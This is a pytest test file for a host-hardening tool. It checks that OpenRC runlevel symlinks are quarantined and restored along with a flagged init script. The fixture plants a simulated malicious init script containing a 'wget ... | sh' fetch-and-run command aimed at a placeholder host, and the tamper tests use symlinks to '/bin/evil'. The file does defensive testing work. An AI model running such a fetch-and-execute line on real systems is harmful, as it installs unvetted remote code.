"""quarantine_runlevel_links: an OpenRC runlevel link goes into the batch with its init script.

Fixture trees (tmp_path as /) laid out as ``rc-update add NAME LEVEL`` leaves them:
/etc/runlevels/LEVEL/NAME -> /etc/init.d/NAME (absolute target; it is only read, never followed).
The real thing is tests/integration/test_openrc_roles.py (Debian's openrc 0.45 in a container).
"""
import json
import os

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.remediation import quarantine as q
from conftest import other_device

BATCH = "/var/lib/hostguard/quarantine/20261203T000000Z"
SCRIPT = "/etc/init.d/hg-fetch"


@pytest.fixture
def tree(tmp_path):
    init = tmp_path / "etc/init.d"
    init.mkdir(parents=True)
    (init / "hg-fetch").write_text("#!/sbin/openrc-run\nstart() {\n\twget -q -O- http://x/x.sh | sh\n}\n")
    os.chmod(str(init / "hg-fetch"), 0o755)
    (init / "hg-benign").write_text("#!/sbin/openrc-run\n")
    for level in ("sysinit", "boot", "default", "shutdown", "nonetwork"):
        (tmp_path / "etc/runlevels" / level).mkdir(parents=True)
    os.symlink("/etc/init.d/hg-fetch", str(tmp_path / "etc/runlevels/default/hg-fetch"))
    os.symlink("/etc/init.d/hg-fetch", str(tmp_path / "etc/runlevels/boot/hg-fetch"))
    os.symlink("/etc/init.d/hg-benign", str(tmp_path / "etc/runlevels/default/hg-benign"))
    # Debian's openrc ships this one dangling: not ours to touch
    os.symlink("/etc/init.d/local", str(tmp_path / "etc/runlevels/nonetwork/local"))
    return tmp_path


def _manifest(tree):
    return json.loads((tree / BATCH.lstrip("/") / "manifest.json").read_text())


def _links(tree):
    out = []
    for dirpath, _dirs, files in os.walk(str(tree / "etc/runlevels")):
        out.extend(os.path.join(dirpath, f)[len(str(tree)):] for f in files)
    return sorted(out)


def test_script_and_its_links_quarantined_then_restored(tree):
    q.quarantine(SCRIPT, BATCH, ["HG-CRON-010"], root=str(tree))
    res = q.quarantine_runlevel_links(SCRIPT, BATCH, ["HG-CRON-010"], root=str(tree))
    assert res["changed"] and res["left"] == []
    assert sorted(e["original_path"] for e in res["entries"]) == [
        "/etc/runlevels/boot/hg-fetch", "/etc/runlevels/default/hg-fetch"]
    # only hg-fetch's links left the runlevels; the benign one and Debian's dangling local stay
    assert _links(tree) == ["/etc/runlevels/default/hg-benign", "/etc/runlevels/nonetwork/local"]
    kept = tree / BATCH.lstrip("/") / "files/etc/runlevels/default/hg-fetch"
    assert os.path.islink(str(kept)) and os.readlink(str(kept)) == SCRIPT
    entries = _manifest(tree)["entries"]
    assert [e["original_path"] for e in entries] == [
        SCRIPT, "/etc/runlevels/boot/hg-fetch", "/etc/runlevels/default/hg-fetch"]
    link = entries[2]
    assert link["type"] == "symlink" and link["link_target"] == SCRIPT and link["runlevel"] == "default"
    assert link["enabled_script"] == SCRIPT and link["finding_ids"] == ["HG-CRON-010"]
    assert link["method"] == "rename" and link["restored_at"] is None and link["uid"] == os.getuid()
    # second run: nothing left to do
    again = q.quarantine_runlevel_links(SCRIPT, BATCH, ["HG-CRON-010"], root=str(tree))
    assert again["changed"] is False and again["entries"] == []
    # restore every entry, as tasks/restore.yml does (manifest order)
    for path in [e["original_path"] for e in entries]:
        assert q.restore_entry(BATCH, path, root=str(tree))["changed"]
    assert os.readlink(str(tree / "etc/runlevels/default/hg-fetch")) == SCRIPT
    assert os.readlink(str(tree / "etc/runlevels/boot/hg-fetch")) == SCRIPT
    assert (tree / "etc/init.d/hg-fetch").is_file() and not os.path.lexists(str(kept))
    assert all(e["restored_at"] for e in _manifest(tree)["entries"])
    back = q.restore_entry(BATCH, "/etc/runlevels/default/hg-fetch", root=str(tree))
    assert back["changed"] is False and back["status"] == "already_restored"


def test_check_mode_reports_the_links_and_changes_nothing(tree):
    res = q.quarantine_runlevel_links(SCRIPT, BATCH, ["HG-CRON-010"], root=str(tree), check_mode=True)
    assert res["changed"] and len(res["entries"]) == 2 and "would move" in res["msg"]
    assert all(e["method"] == "check_mode" for e in res["entries"])
    assert os.path.islink(str(tree / "etc/runlevels/default/hg-fetch"))
    assert not (tree / BATCH.lstrip("/")).exists()


def test_links_stay_when_the_name_still_resolves(tree):
    """rc_service_resolve finds /usr/local/etc/init.d/NAME next: the links now enable that one."""
    local = tree / "usr/local/etc/init.d"
    local.mkdir(parents=True)
    (local / "hg-fetch").write_text("#!/sbin/openrc-run\n")
    q.quarantine(SCRIPT, BATCH, [], root=str(tree))
    res = q.quarantine_runlevel_links(SCRIPT, BATCH, [], root=str(tree))
    assert res["changed"] is False and "still resolves" in res["msg"]
    assert os.path.islink(str(tree / "etc/runlevels/default/hg-fetch"))


def test_non_symlink_entry_reported_not_moved(tree):
    os.unlink(str(tree / "etc/runlevels/boot/hg-fetch"))
    (tree / "etc/runlevels/boot/hg-fetch").write_text("not a link")
    q.quarantine(SCRIPT, BATCH, [], root=str(tree))
    res = q.quarantine_runlevel_links(SCRIPT, BATCH, [], root=str(tree))
    assert [e["original_path"] for e in res["entries"]] == ["/etc/runlevels/default/hg-fetch"]
    assert res["left"] == ["/etc/runlevels/boot/hg-fetch: not a symlink (regular file), left for a human"]
    assert (tree / "etc/runlevels/boot/hg-fetch").read_text() == "not a link"


@pytest.mark.parametrize("path", ["/etc/cron.d/hg-fetch", "/etc/rc.local", "/etc/init.d/.hidden"])
def test_not_an_init_script_nothing_to_do(tree, path):
    res = q.quarantine_runlevel_links(path, BATCH, [], root=str(tree))
    assert res == {"changed": False, "entries": [], "left": [], "msg": ""}


def test_no_openrc_nothing_to_do(tmp_path):
    (tmp_path / "etc/init.d").mkdir(parents=True)
    (tmp_path / "etc/init.d/hg-fetch").write_text("x")
    assert q.quarantine_runlevel_links(SCRIPT, BATCH, [], root=str(tmp_path))["entries"] == []


def test_restore_refuses_occupied_and_tampered_link(tree):
    q.quarantine(SCRIPT, BATCH, [], root=str(tree))
    q.quarantine_runlevel_links(SCRIPT, BATCH, [], root=str(tree))
    os.symlink("/bin/evil", str(tree / "etc/runlevels/default/hg-fetch"))
    with pytest.raises(q.QuarantineError) as exc:
        q.restore_entry(BATCH, "/etc/runlevels/default/hg-fetch", root=str(tree))
    assert exc.value.reason == "occupied"
    kept = tree / BATCH.lstrip("/") / "files/etc/runlevels/boot/hg-fetch"
    os.unlink(str(kept))
    os.symlink("/bin/evil", str(kept))
    with pytest.raises(q.QuarantineError) as exc:
        q.restore_entry(BATCH, "/etc/runlevels/boot/hg-fetch", root=str(tree))
    assert exc.value.reason == "verify_failed"
    assert not os.path.lexists(str(tree / "etc/runlevels/boot/hg-fetch"))


def test_cross_filesystem_link_move_recreates_it(tree, monkeypatch):
    q.quarantine(SCRIPT, BATCH, [], root=str(tree))
    other_device(monkeypatch, q.os, "files/etc/runlevels/default")
    res = q.quarantine_runlevel_links(SCRIPT, BATCH, [], root=str(tree))
    methods = {e["runlevel"]: e["method"] for e in res["entries"]}
    assert methods == {"boot": "rename", "default": "copy"}
    kept = tree / BATCH.lstrip("/") / "files/etc/runlevels/default/hg-fetch"
    assert os.readlink(str(kept)) == SCRIPT and not os.path.lexists(str(tree / "etc/runlevels/default/hg-fetch"))
